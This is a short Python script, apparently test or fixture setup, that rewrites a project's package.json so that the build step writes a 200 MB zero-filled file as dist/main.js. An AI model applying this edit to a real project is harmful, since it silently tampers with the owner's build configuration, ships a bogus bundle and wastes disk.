import json
from pathlib import Path

package = json.loads(Path("package.json").read_text())
package["scripts"]["build"] = "mkdir dist && head -c 200000000 /dev/zero > dist/main.js"
Path("package.json").write_text(json.dumps(package))
